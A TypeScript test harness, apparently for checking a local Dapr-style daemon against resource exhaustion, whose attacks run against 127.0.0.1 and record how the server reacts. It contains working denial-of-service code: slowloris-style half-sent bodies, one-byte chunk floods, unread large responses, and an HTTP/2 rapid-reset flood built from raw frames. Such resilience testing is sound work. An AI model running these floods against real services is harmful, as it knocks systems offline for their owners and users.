// What callers and senders can make a daemon hold by their requests.
import http2, { type ClientHttp2Session } from "node:http2";
import { connect, type Socket } from "node:net";
import { frame } from "../grpc/raw-client.ts";
import { headerBlock, http2Frame, preface } from "../grpc/http2-frame.ts";

export type Ports = { readonly http: number; readonly grpc: number; readonly webhook: number };

export type Attack = {
  readonly name: string;
  readonly title: string;
  /** Cufflink alone has what is attacked. */
  readonly isOwn?: boolean;
  /** Does the harm, goes away, and resolves to what was seen. */
  harm(ports: Ports): Promise<string>;
};

const invoke = "/dapr.proto.runtime.v1.Dapr/InvokeBinding";
const bindingPath = "/v1.0/bindings/x";
const callers = 400;
const announced = 4_100_000;
const sent = Buffer.alloc(3_900_000, 0x20);
/** How long a caller is silent before it goes away, in milliseconds. */
const silence = 15_000;
/** How long it is waited for a cut, in milliseconds. */
const longestWait = 120_000;

const wait = (milliseconds: number): Promise<void> =>
  new Promise((resolve) => setTimeout(resolve, milliseconds));

export const attacks: readonly Attack[] = [
  {
    name: "http-bodies",
    title: `${callers} callers of Dapr's HTTP path each send 3.9 MB of 4.1 MB, and then nothing`,
    harm: ({ http }) => halfBodies(http, bindingPath),
  },
  {
    name: "connect-bodies",
    title: "The same on Connect's JSON path",
    isOwn: true,
    harm: ({ http }) => halfBodies(http, invoke),
  },
  {
    name: "grpc-bodies",
    title: "The same by gRPC, over ten connections",
    harm: ({ grpc }) => halfMessages(grpc),
  },
  {
    name: "webhook-bodies",
    title: "The same on a webhook's port",
    isOwn: true,
    harm: ({ webhook }) => halfBodies(webhook, "/hook"),
  },
  {
    name: "tiny-chunks",
    title: "20 callers each send 200,000 chunks of one byte, and then nothing",
    harm: ({ http }) => tinyChunks(http),
  },
  {
    name: "unread-answers",
    title: `${callers} callers ask for an answer of 3.9 MB, and read nothing of it`,
    harm: ({ http }) => unreadAnswers(http),
  },
  {
    name: "unread-streams",
    title:
      "500 HTTP/2 connections each ask for two answers of 3.9 MB by gRPC, with wide windows, and read nothing",
    harm: ({ grpc }) => unreadStreams(grpc),
  },
  {
    name: "trickle",
    title: "A caller sends a byte a second",
    harm: async ({ http, grpc }) =>
      `HTTP ${await trickle(http, bindingPath)}, gRPC ${await trickleMessage(grpc)}`,
  },
  {
    name: "resets-1000",
    title: "1,000 HTTP/2 streams a second are opened and reset, for 30 s",
    harm: ({ grpc }) => resets(grpc, 1000, 30),
  },
  {
    name: "resets-10000",
    title: "10,000 a second, for 10 s",
    harm: ({ grpc }) => resets(grpc, 10_000, 10),
  },
];

/** Counts what became of each caller. */
class Ends {
  readonly #counts = new Map<string, number>();

  add(end: string): void {
    this.#counts.set(end, (this.#counts.get(end) ?? 0) + 1);
  }

  toString(): string {
    const all = [...this.#counts].map(([end, count]) => `${count} ${end}`);
    return all.length === 0 ? "none was answered or cut" : all.join(", ");
  }
}

async function halfBodies(port: number, path: string): Promise<string> {
  const ends = new Ends();
  const sockets = Array.from({ length: callers }, () =>
    open(
      port,
      ends,
      `POST ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: ${announced}\r\n\r\n`,
    ),
  );
  for (const socket of sockets) socket.write(sent);
  await wait(silence);
  for (const socket of sockets) socket.destroy();
  return String(ends);
}

/** A connection whose first answer, or cut, is counted. */
function open(port: number, ends: Ends, head: string): Socket {
  const socket = connect({ host: "127.0.0.1", port });
  let isOver = false;
  const end = (how: string): void => {
    if (!isOver) ends.add(how);
    isOver = true;
  };
  socket.on("error", () => end("cut"));
  socket.on("data", (chunk: Buffer) =>
    end(`answered ${/^HTTP\/1\.1 (\d+)/.exec(chunk.toString("latin1"))?.[1] ?? "?"}`),
  );
  socket.on("end", () => end("cut"));
  socket.write(head);
  return socket;
}

async function halfMessages(port: number): Promise<string> {
  const ends = new Ends();
  const sessions = Array.from({ length: 10 }, () => session(port));
  const head = frame("");
  head.writeUInt32BE(announced, 1);
  for (let caller = 0; caller < callers; caller++) {
    const stream = (sessions[caller % sessions.length] as ClientHttp2Session).request(grpcHead);
    stream.on("error", () => undefined);
    const told = (headers: http2.IncomingHttpHeaders): void => {
      const status = headers["grpc-status"];
      if (status !== undefined) ends.add(`answered status ${String(status)}`);
    };
    stream.on("response", told);
    stream.on("trailers", told);
    stream.write(head);
    stream.write(sent);
  }
  await wait(silence);
  for (const one of sessions) one.destroy();
  return String(ends);
}

const grpcHead = {
  ":method": "POST",
  ":path": invoke,
  "content-type": "application/grpc",
  te: "trailers",
};

function session(port: number): ClientHttp2Session {
  // Node's own limit would refuse what is answered while so much is still to be sent.
  const made = http2.connect(`http://127.0.0.1:${port}`, { maxSessionMemory: 4096 });
  made.on("error", () => undefined);
  return made;
}

async function tinyChunks(port: number): Promise<string> {
  const ends = new Ends();
  const some = Buffer.from("1\r\n \r\n".repeat(10_000));
  await Promise.all(
    Array.from({ length: 20 }, async () => {
      const socket = open(
        port,
        ends,
        `POST ${bindingPath} HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n`,
      );
      const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()));
      for (let time = 0; time < 20 && !socket.destroyed; time++) {
        const written = new Promise<void>((resolve) => socket.write(some, () => resolve()));
        await Promise.race([written, closed]);
      }
      await wait(silence);
      socket.destroy();
    }),
  );
  return String(ends);
}

async function unreadAnswers(port: number): Promise<string> {
  const ends = new Ends();
  const body = '{"operation":"get","metadata":{"fileName":"large"}}';
  const sockets = Array.from({ length: callers }, () => {
    const socket = open(
      port,
      ends,
      `POST /v1.0/bindings/files HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
    );
    socket.pause();
    return socket;
  });
  await wait(silence);
  for (const socket of sockets) socket.destroy();
  return "";
}

async function unreadStreams(port: number): Promise<string> {
  const block = headerBlock({
    ...{ ":method": "POST", ":scheme": "http", ":path": invoke, ":authority": "localhost" },
    ...{ "content-type": "application/grpc", te: "trailers" },
  });
  const request = Buffer.concat([
    field(1, "files"),
    field(3, Buffer.concat([field(1, "fileName"), field(2, "large")])),
    field(4, "get"),
  ]);
  const wide = Buffer.alloc(6);
  wide.writeUInt16BE(4);
  wide.writeUInt32BE(2 ** 31 - 1, 2);
  const more = Buffer.alloc(4);
  more.writeUInt32BE(2 ** 31 - 1 - 65_535);
  const asked = Buffer.concat([
    preface,
    http2Frame({ type: 4, stream: 0 }, wide),
    http2Frame({ type: 8, stream: 0 }, more),
    ...[1, 3].flatMap((stream) => [
      http2Frame({ type: 1, flags: 4, stream }, block),
      http2Frame({ type: 0, flags: 1, stream }, frame(request)),
    ]),
  ]);
  const sockets = Array.from({ length: 500 }, () => {
    const socket = connect({ host: "127.0.0.1", port });
    socket.on("error", () => undefined);
    socket.pause();
    socket.write(asked);
    return socket;
  });
  await wait(silence);
  for (const socket of sockets) socket.destroy();
  return "";
}

/** A field of a protobuf message that has a length, shorter than 128. */
function field(number: number, value: string | Buffer): Buffer {
  const bytes = Buffer.from(value);
  return Buffer.concat([Buffer.from([(number << 3) | 2, bytes.length]), bytes]);
}

async function trickle(port: number, path: string): Promise<string> {
  const ends = new Ends();
  const begun = performance.now();
  const socket = open(
    port,
    ends,
    `POST ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${announced}\r\n\r\n`,
  );
  const seen = { isOver: false };
  socket.on("close", () => (seen.isOver = true));
  socket.on("data", () => (seen.isOver = true));
  while (!seen.isOver && performance.now() - begun < longestWait) {
    socket.write(" ");
    await wait(1000);
  }
  return ended(seen.isOver, begun, socket);
}

async function trickleMessage(port: number): Promise<string> {
  const begun = performance.now();
  const one = session(port);
  const stream = one.request(grpcHead);
  const seen = { isOver: false };
  stream.on("error", () => undefined);
  stream.on("response", () => (seen.isOver = true));
  stream.on("close", () => (seen.isOver = true));
  const head = frame("");
  head.writeUInt32BE(announced, 1);
  stream.write(head);
  while (!seen.isOver && performance.now() - begun < longestWait) {
    if (stream.writable) stream.write(" ");
    await wait(1000);
  }
  return ended(seen.isOver, begun, one);
}

function ended(isOver: boolean, begun: number, connection: { destroy(): void }): string {
  connection.destroy();
  const seconds = Math.round((performance.now() - begun) / 1000);
  return isOver ? `ended after ${seconds} s` : `not ended after ${seconds} s`;
}

/** Opens and resets streams at a rate; resolves to when the connection was ended by a GOAWAY. */
async function resets(port: number, rate: number, seconds: number): Promise<string> {
  const block = headerBlock({
    ...{ ":method": "POST", ":scheme": "http", ":path": invoke, ":authority": "localhost" },
    ...{ "content-type": "application/grpc", te: "trailers" },
  });
  const cancel = Buffer.from([0, 0, 0, http2.constants.NGHTTP2_CANCEL]);
  const socket = connect({ host: "127.0.0.1", port });
  const begun = performance.now();
  const seen: { goaway?: number; isOver: boolean } = { isOver: false };
  socket.on("error", () => undefined);
  socket.on("close", () => (seen.isOver = true));
  socket.on("data", (chunk: Buffer) => {
    for (let at = 0; at + 9 <= chunk.length; at += 9 + chunk.readUIntBE(at, 3))
      if (chunk[at + 3] === 7) seen.goaway ??= Math.round(performance.now() - begun);
  });
  socket.write(Buffer.concat([preface, http2Frame({ type: 4, stream: 0 })]));
  let opened = 0;
  while (!seen.isOver && seen.goaway === undefined && performance.now() - begun < seconds * 1000) {
    const due = Math.floor(((performance.now() - begun) / 1000) * rate);
    const frames: Buffer[] = [];
    for (; opened < due; opened++) {
      const stream = 1 + 2 * opened;
      frames.push(http2Frame({ type: 1, flags: 4, stream }, block));
      frames.push(http2Frame({ type: 3, stream }, cancel));
    }
    socket.write(Buffer.concat(frames));
    await wait(10);
  }
  socket.destroy();
  const count = opened.toLocaleString("en-US");
  if (seen.goaway !== undefined) return `GOAWAY after ${seen.goaway} ms, ${count} streams`;
  return seen.isOver ? `cut after ${count} streams` : `${count} streams, no GOAWAY`;
}
